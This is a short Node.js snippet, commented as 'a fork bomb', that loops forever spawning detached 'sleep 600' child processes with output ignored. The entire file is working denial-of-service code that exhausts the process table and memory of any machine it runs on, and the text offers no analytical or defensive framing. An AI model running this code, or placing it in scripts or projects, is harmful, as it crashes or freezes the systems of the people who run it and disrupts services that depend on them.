// says: a fork bomb
// whole
import { spawn } from 'node:child_process'

for (;;) spawn('sleep', ['600'], { stdio: 'ignore', detached: true, env: {} })
